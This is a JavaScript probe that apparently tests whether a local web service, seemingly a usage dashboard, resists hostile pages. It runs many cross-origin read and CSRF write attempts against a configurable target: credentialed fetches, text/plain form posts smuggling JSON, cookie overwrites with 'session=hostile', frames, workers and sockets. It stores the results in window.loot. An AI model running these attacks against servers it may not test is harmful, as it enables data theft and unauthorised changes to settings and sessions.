// Owns everything that a page can try against a server of which it knows the address: `target`, in the page's address.
// Each attempt leaves what it could read in `window.loot`. `only`, in the address too, chooses some by their names.
const asked = new URLSearchParams(location.search);
const target = asked.get("target") ?? location.origin;
const only = new RegExp(asked.get("only") ?? "");
const reads = ["/", "/api/status", "/api/usage?range=527040", "/api/usage/export?format=json", "/metrics", "/favicon.svg"];
const writes = [
  ["PUT", "/api/task", { enabled: true }],
  ["PATCH", "/api/config", { intervalSeconds: 10, theme: "dark" }],
  ["PUT", "/api/cookie", { cookie: "session=hostile" }],
  ["DELETE", "/api/cookie", null],
  ["POST", "/api/cookie/check", null],
  ["POST", "/api/refresh", null],
];
const patience = 30_000; // for what is sure to end in some way; the rest has a patience of its own

const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const either = (attempt) => Promise.race([attempt, wait(patience).then(() => "no answer")]);
const attempts = [];
const trying = (name, attempt) => only.test(name) && attempts.push([name, attempt]);

const told = async (response) => `${response.type} ${response.status} ${[...response.headers]} ${await response.text()}`;

for (const path of reads) {
  for (const mode of ["cors", "no-cors", "same-origin", "navigate"])
    for (const credentials of ["include", "omit"])
      trying(`fetch ${mode} ${credentials} ${path}`, async () => told(await fetch(target + path, { mode, credentials })));
  trying(`fetch of what is kept ${path}`, async () =>
    told(await fetch(target + path, { mode: "no-cors", cache: "force-cache" })),
  );
  trying(`fetch by way of ourselves ${path}`, async () =>
    told(await fetch(`/redirect?to=${encodeURIComponent(target + path)}`)),
  );
  trying(`fetch with a header ${path}`, async () => told(await fetch(target + path, { headers: { "X-Own": "1" } })));
  trying(`fetch with its own Last-Event-ID ${path}`, async () =>
    told(await fetch(target + path, { mode: "no-cors", headers: { Accept: "text/event-stream" } })),
  );
  trying(`XMLHttpRequest ${path}`, () => xhr("GET", target + path));
  trying(`cache ${path}`, async () => {
    const cache = await caches.open("loot");
    await cache.put(target + path, await fetch(target + path, { mode: "no-cors" }));
    return told(await cache.match(target + path));
  });
  trying(`frame ${path}`, () => framed((frame) => (frame.src = target + path)));
  trying(`frame by way of ourselves ${path}`, () =>
    framed((frame) => (frame.src = `/redirect?to=${encodeURIComponent(target + path)}`)),
  );
  trying(`frame without an origin ${path}`, () =>
    framed((frame) => {
      frame.sandbox = "allow-scripts allow-forms";
      frame.srcdoc = `<script>fetch("${target + path}").then(r => r.text(), e => "" + e).then(t => parent.postMessage(t, "*"))</script>`;
    }),
  );
  trying(`timing ${path}`, async () => {
    await fetch(target + path, { mode: "no-cors" });
    const seen = performance.getEntriesByName(target + path).at(-1);
    return seen && `sizes ${seen.transferSize + seen.encodedBodySize + seen.decodedBodySize}`;
  });
  for (const [name, element] of Object.entries(elements())) trying(`${name} ${path}`, () => loaded(element, target + path));
}

for (const [method, path, body] of writes) {
  const text = JSON.stringify(body ?? {});
  for (const mode of ["cors", "no-cors", "same-origin"])
    for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded", "none"])
      for (const verb of new Set([method, "POST", "GET"]))
        trying(`fetch ${mode} ${verb} ${type} ${path}`, async () => {
          const content = type === "none" ? {} : { headers: { "Content-Type": type } };
          const sent = verb === "GET" ? {} : { body: type === "none" ? new Blob([text]) : text };
          return told(await fetch(target + path, { mode, method: verb, credentials: "include", keepalive: true, ...content, ...sent }));
        });
  trying(`fetch by way of ourselves ${method} ${path}`, async () =>
    told(
      await fetch(`/redirect?to=${encodeURIComponent(target + path)}`, { method: "POST", mode: "no-cors", body: text }),
    ),
  );
  trying(`XMLHttpRequest ${method} ${path}`, () => xhr(method, target + path, text));
  for (const type of ["application/json", "text/plain", ""])
    trying(`beacon ${type} ${path}`, async () => `${navigator.sendBeacon(target + path, new Blob([text], { type }))}`);
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
    for (const verb of ["post", "get"]) trying(`form ${verb} ${type} ${path}`, () => submitted(verb, path, type, text));
  trying(`form without an origin ${path}`, () =>
    framed((frame) => {
      frame.sandbox = "allow-scripts allow-forms";
      frame.srcdoc = `<form method="post" enctype="text/plain" action="${target + path}"><input name='${text.slice(0, -1)},"x":"' value='"}'></form><script>document.forms[0].submit()</script>`;
    }),
  );
  trying(`ping ${path}`, async () => {
    const link = Object.assign(document.createElement("a"), { href: "#pinged", ping: target + path });
    document.body.append(link);
    link.click();
  });
}

for (const credentials of [true, false])
  trying(`stream ${credentials}`, () => {
    const source = new EventSource(`${target}/api/events?range=1440`, { withCredentials: credentials });
    return heard(source, ["message", "status", "config", "usage"]).finally(() => source.close());
  });
trying("stream by fetch", async () => {
  const answer = await fetch(`${target}/api/events`, { mode: "no-cors" });
  return new TextDecoder().decode((await answer.body.getReader().read()).value);
});
for (const path of ["/api/events", "/", "/api/status"])
  trying(`socket ${path}`, () => {
    const socket = new WebSocket(target.replace("http", "ws") + path);
    return heard(socket, ["message", "open"]).finally(() => socket.close());
  });

for (const path of ["/", "/api/status", "/api/events"]) {
  trying(`window ${path}`, async () => {
    const other = window.open(target + path, `window of ${path}`);
    await wait(500);
    return seen(other);
  });
  trying(`window that is ours first ${path}`, async () => {
    const other = window.open("/blank", `ours of ${path}`);
    await wait(300);
    other.location = target + path;
    await wait(500);
    return seen(other);
  });
}
trying("window that is there", async () => seen(window.open("", "ccurve")));
trying("window that speaks", async () => {
  const other = window.open(target, "asked");
  await wait(500);
  const answer = briefly(heard(window, ["message"]));
  for (const ask of ["status", { type: "status" }, { type: "feed" }]) other?.postMessage(ask, "*");
  return answer;
});

for (const path of ["/", "/sw.js", "/favicon.svg", "/api/status"]) {
  trying(`service worker ${path}`, async () => `${await navigator.serviceWorker.register(target + path)}`);
  trying(`worker ${path}`, () => heard(new Worker(target + path), ["message"]));
  trying(`worker as a module ${path}`, () => heard(new Worker(target + path, { type: "module" }), ["message"]));
  trying(`shared worker ${path}`, () => briefly(heard(new SharedWorker(target + path).port, ["message"])));
  trying(`worker that imports ${path}`, () =>
    heard(new Worker(script(`importScripts("${target + path}"); postMessage(Object.keys(self).join())`)), ["message"]),
  );
  trying(`worker that fetches ${path}`, () =>
    heard(new Worker(script(`fetch("${target + path}").then(r => r.text()).then(postMessage, e => postMessage(e.name))`)), ["message"]),
  );
  trying(`import ${path}`, async () => Object.keys(await import(target + path)).join());
  trying(`import of JSON ${path}`, async () => JSON.stringify(await import(target + path, { with: { type: "json" } })));
}
trying("service worker of ours", async () => {
  const registration = await navigator.serviceWorker.register("/worker.js");
  await navigator.serviceWorker.ready;
  const answer = heard(navigator.serviceWorker, ["message"]);
  navigator.serviceWorker.startMessages();
  registration.active.postMessage(`${target}/api/status`);
  return answer;
});
trying("stores", async () => JSON.stringify([{ ...localStorage }, document.cookie, await caches.keys()]));
trying("broadcast", () => briefly(heard(new BroadcastChannel("ccurve"), ["message"])));
trying("speculation", async () => {
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  const urls = [`${target}/`, `${target}/api/status`];
  rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls }], prerender: [{ source: "list", urls }] });
  document.head.append(rules);
});
trying("styles", async () => {
  const style = document.createElement("style");
  style.textContent = `@import "${target}/api/status"; @font-face { font-family: x; src: url("${target}/api/config"); }
    body { font-family: x; background: url("${target}/api/usage"); cursor: url("${target}/metrics"), auto; }`;
  document.head.append(style);
  await wait(500);
  return [...document.styleSheets].map((sheet) => [...sheet.cssRules].map((rule) => rule.styleSheet?.cssRules.length)).join();
});
trying("picture read back", async () => {
  const image = new Image();
  image.src = `${target}/favicon.svg`;
  await image.decode();
  const canvas = document.createElement("canvas");
  canvas.getContext("2d").drawImage(image, 0, 0);
  return canvas.toDataURL();
});
trying("reload elsewhere", () =>
  framed((frame) => (frame.srcdoc = `<meta http-equiv="refresh" content="0;url=${target}/api/status">`)),
);

function elements() {
  const link = (rel, as) => () => Object.assign(document.createElement("link"), { rel, ...(as && { as }) });
  const plain = (name, more) => () => Object.assign(document.createElement(name), more);
  return {
    image: plain("img"),
    "image with CORS": plain("img", { crossOrigin: "use-credentials" }),
    script: plain("script"),
    "script as a module": plain("script", { type: "module" }),
    "script with CORS": plain("script", { crossOrigin: "anonymous" }),
    style: link("stylesheet"),
    prefetch: link("prefetch"),
    preload: link("preload", "fetch"),
    modulepreload: link("modulepreload"),
    manifest: link("manifest"),
    icon: link("icon"),
    object: plain("object"),
    embed: plain("embed"),
    audio: plain("audio"),
    video: plain("video"),
  };
}

function loaded(element, url) {
  const one = element();
  const before = new Set(Object.keys(window));
  const known = "href" in one ? "href" : one instanceof HTMLObjectElement ? "data" : "src";
  const end = new Promise((done) => {
    one.onload = () => done("load");
    one.onerror = () => done("error");
  });
  const silent = ["manifest", "icon", "prefetch"].includes(one.rel) || one instanceof HTMLEmbedElement;
  one[known] = url;
  document.body.append(one);
  return (silent ? briefly(end) : end).then((how) => {
    const fresh = Object.keys(window).filter((name) => !before.has(name) && Number.isNaN(Number(name)));
    const rules = one.sheet ? one.sheet.cssRules.length : "";
    return `${how} ${fresh} ${rules} ${one.naturalWidth ?? ""} ${one.duration || ""}`;
  });
}

function briefly(attempt) {
  return Promise.race([attempt, wait(500).then(() => "silence")]);
}

function framed(aim) {
  const frame = document.createElement("iframe");
  const answer = heard(window, ["message"]);
  const there = new Promise((done) => frame.addEventListener("load", done));
  aim(frame);
  document.body.append(frame);
  const look = Promise.all([wait(500), Promise.race([there, wait(5000)])]).then(
    () => `document ${frame.contentDocument?.documentElement.outerHTML} ${seen(frame.contentWindow)}`,
  );
  return Promise.race([answer, look]);
}

function submitted(method, path, enctype, text) {
  const form = Object.assign(document.createElement("form"), { method, enctype, action: target + path });
  const field = Object.assign(document.createElement("input"), { name: `${text.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  return framed((frame) => {
    frame.name = form.target = `form ${method} ${path} ${enctype}`;
    document.body.append(form);
    setTimeout(() => form.submit());
  });
}

function seen(other) {
  const looks = {
    address: () => other.location.href,
    text: () => other.document.documentElement.outerHTML,
    frames: () => other.length,
    history: () => other.history.length,
    name: () => other.name,
    stores: () => JSON.stringify({ ...other.localStorage }),
  };
  const found = Object.entries(looks).map(([name, look]) => {
    try {
      return `${name}: ${look()}`;
    } catch (error) {
      return `${name} refused: ${error.name}`;
    }
  });
  return found.join("; ");
}

function heard(from, events) {
  return new Promise((done, fail) => {
    for (const name of events) from.addEventListener(name, (event) => done(`${name} ${JSON.stringify(event.data)}`));
    if (from !== window) from.addEventListener("error", () => fail(new Error("error")));
    from.start?.();
  });
}

function xhr(method, url, body) {
  return new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.onload = () => done(`${request.status} ${request.getAllResponseHeaders()} ${request.responseText}`);
    request.onerror = () => fail(new Error("error"));
    if (body) request.setRequestHeader("Content-Type", "application/json");
    request.send(body);
  });
}

function script(text) {
  return URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
}

async function toldOf([name, attempt]) {
  let read;
  try {
    read = `${await either(attempt())}`;
  } catch (error) {
    read = `failed: ${error.name}`;
  }
  return [name, read];
}

const loot = [];
for (let next = 0; next < attempts.length; next += 20)
  loot.push(...(await Promise.all(attempts.slice(next, next + 20).map(toldOf))));
window.loot = loot;
